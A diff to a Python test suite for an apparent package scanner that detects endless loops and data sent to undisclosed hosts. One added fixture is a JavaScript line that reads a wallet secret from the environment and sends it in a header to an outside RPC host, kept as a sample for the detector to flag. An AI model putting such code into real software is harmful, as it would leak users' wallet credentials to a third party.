@@ -43,6 +43,7 @@ LOOPS = {
     "import time\ndef count(words):\n    while True:\n        look(words)\n        time.sleep(5)\n": [],
     "def serve(sock):\n    while True:\n        answer(sock.accept())\n": [],
 }
+FOR_EVER = "for (let i = 0; i < Infinity; i++) console.log(i)\n"
 
 
 def scanned(folder: Path, *, description: str = "Counts words.", more: str = "", said: str = "", **files: str) -> Scan:
@@ -80,6 +81,11 @@ def test_a_package_about_security_may_show_weaknesses(tmp_path: Path) -> None:
 @pytest.mark.parametrize("text", LOOPS)
 def test_a_loop_that_neither_ends_nor_waits(text: str, tmp_path: Path) -> None:
     assert told(scanned(tmp_path, **{"a.py": text})) == LOOPS[text]
+
+
+def test_a_loop_of_a_script_that_counts_to_infinity(tmp_path: Path) -> None:
+    assert told(scanned(tmp_path, **{"a.js": FOR_EVER})) == ["never-ends"]
+    assert told(scanned(tmp_path, **{"a.js": FOR_EVER.replace("Infinity", "rows.length")})) == []
 
 
 def test_a_weakness_does_not_add_up_with_another(tmp_path: Path) -> None:
@@ -181,6 +187,12 @@ def test_a_key_among_what_is_sent_is_no_way_to_sign_in(tmp_path: Path) -> None:
     assert told(scanned(tmp_path, said="Results go to our server.\n", **{"a.py": SENT})) == ["undisclosed-host"]
     signed = SENT.replace("json={'text': text, 'key': key}", "headers={'Authorization': key}")
     assert told(scanned(tmp_path, said="Results go to our server.\n", **{"a.py": signed})) == []
+
+
+def test_nobody_signs_in_with_what_opens_a_wallet(tmp_path: Path) -> None:
+    text = "const key = process.env.WALLET_SECRET\nfetch('https://rpc.word-metrics.io/', { headers: { 'x-session-id': key } })\n"
+    assert told(scanned(tmp_path, **{"a.js": text})) == ["undisclosed-host"]
+    assert told(scanned(tmp_path, **{"a.js": text.replace("WALLET_SECRET", "API_TOKEN")})) == []
 
 
 def test_cases_of_a_test_that_runs_nothing_are_read_as_words(tmp_path: Path) -> None:
